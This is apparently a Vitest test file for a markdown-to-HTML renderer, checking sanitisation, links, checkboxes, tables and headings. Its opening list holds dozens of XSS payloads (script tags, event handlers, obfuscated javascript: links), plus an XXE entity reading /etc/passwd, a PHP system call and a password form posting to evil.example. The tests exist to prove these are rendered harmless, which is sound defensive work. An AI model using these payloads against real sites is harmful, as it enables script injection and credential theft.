import { expect, test } from "vitest";
import { fastestMs } from "#tests/fastest.ts";
import { renderMarkdown } from "./markdown.server.ts";

const asWritten = (text: string) => text;

/** Inputs that would do harm, or claim an id of the page, if they came through unchanged. */
const hostile: readonly [name: string, markdown: string][] = [
  ["script", "<script>alert(1)</script>"],
  ["script in a paragraph", "Hello <script src=//evil.example/x.js></script> there"],
  ["script split over lines", "<scr\nipt>alert(1)</scr\nipt>"],
  ["script in a list", "- <script>alert(1)</script>\n- b"],
  ["script in a table", "| a |\n| --- |\n| <script>alert(1)</script> |"],
  ["script in a quote", "> <script>\n> alert(1)\n> </script>"],
  ["script after a code fence that never ends", "```\n</code></pre><script>alert(1)</script>"],
  ["script in the language of a fence", '```"><script>alert(1)</script>\nx\n```'],
  ["image with a handler", "<img src=x onerror=alert(1)>"],
  ["image handler through its words", '![" onerror="alert(1)](/x.png)'],
  ["image handler through its title", `![a](/x.png '" onerror="alert(1)')`],
  ["image with data", "![a](data:image/svg+xml;base64,PHN2Zz4=)"],
  ["image with a script address", "![a](javascript:alert(1))"],
  ["image of another site", "![a](https://evil.example/pixel.gif)"],
  ["image of another site without scheme", "![a](//evil.example/pixel.gif)"],
  ["handler on a paragraph", '<p onclick="alert(1)">x</p>'],
  ["handler on details", "<details open ontoggle=alert(1)>x</details>"],
  ["handler on body", "<body onload=alert(1)>"],
  ["svg", "<svg onload=alert(1)></svg>"],
  ["svg with script", "<svg><script>alert(1)</script></svg>"],
  ["svg animation", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>"],
  ["math", "<math><mtext><script>alert(1)</script></mtext></math>"],
  ["iframe", '<iframe src="javascript:alert(1)"></iframe>'],
  ["iframe with a document", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"],
  ["object", "<object data=javascript:alert(1)></object>"],
  ["embed", "<embed src=javascript:alert(1)>"],
  ["base", '<base href="https://evil.example/">'],
  ["meta refresh", '<meta http-equiv=refresh content="0;url=https://evil.example">'],
  ["link to a stylesheet", "<link rel=stylesheet href=//evil.example/x.css>"],
  ["style", "<style>body{display:none}</style>"],
  ["style attribute", '<p style="position:fixed;inset:0">x</p>'],
  ["form", "<form action=https://evil.example><input name=password></form>"],
  ["button with a form action", "<button formaction=javascript:alert(1)>x</button>"],
  ["text area that swallows the page", "<textarea>"],
  ["template", "<template><script>alert(1)</script></template>"],
  ["noscript", '<noscript><p title="</noscript><script>alert(1)</script>">'],
  ["comment", "<!-- <script>alert(1)</script> -->"],
  ["comment that ends early", "<!--> <script>alert(1)</script> -->"],
  ["conditional comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"],
  ["cdata", "<![CDATA[<script>alert(1)</script>]]>"],
  ["processing instruction", "<?php system('id') ?><?xml-stylesheet href='javascript:alert(1)'?>"],
  ["doctype", "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"],
  ["javascript link", "[x](javascript:alert(1))"],
  ["javascript link in capitals", "[x](JaVaScRiPt:alert(1))"],
  ["javascript link with entities", "[x](&#x6A;avascript&colon;alert(1))"],
  ["javascript link with decimal entities", "[x](&#106;&#97;&#118;&#97;script:alert(1))"],
  ["javascript link with a tab", "[x](<java\tscript:alert(1)>)"],
  ["javascript link with an entity newline", "[x](java&#10;script:alert(1))"],
  ["javascript link after a control character", "[x](&#1;javascript:alert(1))"],
  ["javascript link after a blank", "[x](<  javascript:alert(1)>)"],
  ["javascript link behind a no-break space", "[x](<\u00a0javascript:alert(1)>)"],
  ["javascript link with slashes", "[x](javascript://site.example/%0Aalert(1))"],
  ["javascript through a reference", "[x][1]\n\n[1]: javascript:alert(1)"],
  ["javascript through an autolink", "<javascript:alert(1)>"],
  ["vbscript link", "[x](vbscript:msgbox(1))"],
  ["data link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
  ["data autolink", "<data:text/html,<script>alert(1)</script>>"],
  ["file link", "[x](file:///etc/passwd)"],
  ["blob link", "[x](blob:https://evil.example/1)"],
  ["feed link", "[x](feed:javascript:alert(1))"],
  ["view-source link", "[x](view-source:https://evil.example)"],
  ["app link", "[x](ms-settings:privacy)"],
  ["link title that breaks out", `[x](/a "\\" onmouseover=\\"alert(1)")`],
  ["link address that breaks out", '[x](/a"onmouseover="alert(1))'],
  ["link with a password", "[x](https://bank.example@evil.example/)"],
  ["autolink trick", "<https://a.example/<script>alert(1)</script>>"],
  ["autolink with a quote", 'https://a.example/"onmouseover="alert(1)'],
  ["www autolink with a quote", "www.a.example/'><img/src=x/onerror=alert(1)>"],
  ["mail autolink trick", '<a@b.example"><script>alert(1)</script>>'],
  ["backslashes for slashes", "[x](\\\\evil.example)"],
  ["slash and backslash", "[x](</\\evil.example>)"],
  ["scheme without slashes", "[x](https:evil.example)"],
  ["heading that names a global", "## location"],
  ["heading that names the form", "# __proto__"],
  ["footnote that names a global", "x[^cookie]\n\n[^cookie]: y"],
  ["footnote with a script", "x[^1]\n\n[^1]: <script>alert(1)</script>"],
  ["class through a fence", "```x onclick=alert(1) class=modal\ny\n```"],
  ["checkbox with a handler", "- [ ] <input onfocus=alert(1) autofocus>"],
  ["null character", "<scr\u0000ipt>alert(1)</scr\u0000ipt>"],
  ["attribute of a custom element", "<x-y onclick=alert(1)>x</x-y>"],
  ["portal of React", '<div dangerouslySetInnerHTML={{__html:"<script>alert(1)</script>"}} />'],
  ["JavaScript expression", "{alert(1)}"],
  ["escaped and unescaped twice", "&lt;script&gt;alert(1)&lt;/script&gt;"],
  ["double entities", "&amp;lt;script&amp;gt;alert(1)"],
];

const tags =
  "a blockquote br code del div em h2 h3 h4 h5 h6 hr img input label li ol p picture pre section source span strong sup table tbody td th thead tr ul".split(
    " ",
  );
const attributes =
  "align alt aria-describedby aria-label checked class data-footnote-backref data-footnote-ref data-footnotes href id loading rel role scope src start tabindex title type".split(
    " ",
  );
const classes = /^(?:scroller|key-line|task-list-item|contains-task-list|language-[a-z0-9-]+|)$/;
const ids = /^(?:section-|note-|footnote-label$)/;
const links = /^(?:https?:\/\/|mailto:|tel:|#|\/(?![/\\])|[\w.~?-][^:\\]*$)/;

const tagOfOurs = /<\/?([a-z][a-z0-9]*)((?: [a-z-]+(?:="[^"]*")?)*)>/g;
const attributeOfOurs = / ([a-z-]+)(?:="([^"]*)")?/g;

type Attribute = { tag: string; name: string; value: string };

/** Returns every attribute of the HTML; throws where a "<" begins anything but an allowed tag. */
function attributesOf(html: string): Attribute[] {
  const found: Attribute[] = [];
  const rest = html.replace(tagOfOurs, (_whole, tag: string, list: string) => {
    expect(tags).toContain(tag);
    for (const [, name = "", value = ""] of list.matchAll(attributeOfOurs)) {
      found.push({ tag, name, value });
    }
    return "";
  });
  expect(rest).not.toContain("<");
  return found;
}

test.each(hostile)("markdown renders hostile input harmlessly: %s", (_name, markdown) => {
  const { html } = renderMarkdown(markdown, asWritten);
  for (const { tag, name, value } of attributesOf(html)) {
    expect(attributes).toContain(name);
    if (name === "class") expect(value).toMatch(classes);
    if (name === "id") expect(value).toMatch(ids);
    if (name === "href") expect(value).toMatch(links);
    if (name === "src") expect(value).toMatch(/^\/(?![/\\])/);
    if (tag === "input" && name === "type") expect(value).toBe("checkbox");
  }
});

test("a forbidden link leaves its text", () => {
  const { html } = renderMarkdown("Read [the notice](javascript:alert(1)) first", asWritten);
  expect(html).toBe("<p>Read <span>the notice</span> first</p>");
});

test("links to other sites send no referrer, internal links stay plain", () => {
  const { html } = renderMarkdown(
    "[a](https://www.ftc.gov/x) [b](//www.ftc.gov) [c](/glossary#mfa) [d](#section-x) [e](tel:+13105550142) [f](mailto:a@b.example)",
    asWritten,
  );
  expect(html).toContain('<a href="https://www.ftc.gov/x" rel="noopener noreferrer">');
  expect(html).toContain('<a href="https://www.ftc.gov/" rel="noopener noreferrer">');
  expect(html).toContain('<a href="/glossary#mfa">c</a>');
  expect(html).toContain('<a href="#section-x">d</a>');
  expect(html).toContain('<a href="tel:+13105550142">e</a>');
  expect(html).toContain('<a href="mailto:a@b.example">f</a>');
});

test("company facts are filled into text and links as plain text, not into code", () => {
  const facts = (text: string) =>
    text.replace("{phone}", "310").replace("{brandName}", "**A** <b>&</b> [x](javascript:1)");
  const { html } = renderMarkdown("Call [{phone}](tel:{phone}), {brandName}. `{phone}`", facts);
  expect(html).toBe(
    '<p>Call <a href="tel:310">310</a>, **A** &#x3C;b>&#x26;&#x3C;/b> [x](javascript:1). <code>{phone}</code></p>',
  );
});

test("tasks become checkboxes labelled by their text", () => {
  const { html } = renderMarkdown("- [ ] Call the bank\n- [x] Note the time", asWritten);
  expect(html).toContain('<label><input type="checkbox"><span> Call the bank</span></label>');
  expect(html).toContain('<label><input type="checkbox" checked><span> Note the time</span>');
});

test("tables scroll in their own region, named after the heading", () => {
  const { html } = renderMarkdown("## Clocks\n\n| Rule | Days |\n| - | - |\n| A | 30 |", asWritten);
  expect(html).toContain(
    '<div class="scroller" tabindex="0" role="group" aria-label="Table: Clocks">',
  );
  expect(html).toContain('<th scope="col">Rule</th>');
});

test("contents list second-level headings with distinct ids", () => {
  const { contents, headings } = renderMarkdown(
    "# One\n\n## Two & a half\n\n### Three\n\n## Two & a half\n\nx[^1]\n\n[^1]: y",
    asWritten,
  );
  expect(contents).toEqual([
    { id: "section-one", text: "One" },
    { id: "section-two--a-half", text: "Two & a half" },
    { id: "section-two--a-half-1", text: "Two & a half" },
  ]);
  expect(headings).toEqual(["One", "Two & a half", "Three", "Two & a half", "Footnotes"]);
});

test("markdown with deep nesting renders in bounded time", () => {
  const deepList = Array.from({ length: 400 }, (_, depth) => `${" ".repeat(depth * 2)}- x`);
  const renderAll = () => {
    for (const text of [">".repeat(20_000), deepList.join("\n"), "- ".repeat(20_000)]) {
      expect(renderMarkdown(text, asWritten).html.length).toBeLessThan(100_000);
    }
  };
  expect(fastestMs(renderAll, 1)).toBeLessThan(5000);
});

test("short hyphenated words stay on one line, and code stays as written", () => {
  const { html } = renderMarkdown("Wi-Fi in Microsoft 365, and `sign-in` as code", asWritten);
  expect(html).toContain('<span class="whitespace-nowrap">Wi-Fi</span> in ');
  expect(html).toContain('<span class="whitespace-nowrap">Microsoft 365</span>, and ');
  expect(html).toContain("<code>sign-in</code>");
});

test.each(["### b", "| b |\n  |---|", "> b", "***", "```\n  b\n  ```", "- b"])(
  "the label of a task ends before %j",
  (block) => {
    const { html } = renderMarkdown(`- [ ] a\n  ${block}`, asWritten);
    expect(html).toMatch(/<label><input type="checkbox"><span> ?a\n?<\/span><\/label>/);
  },
);
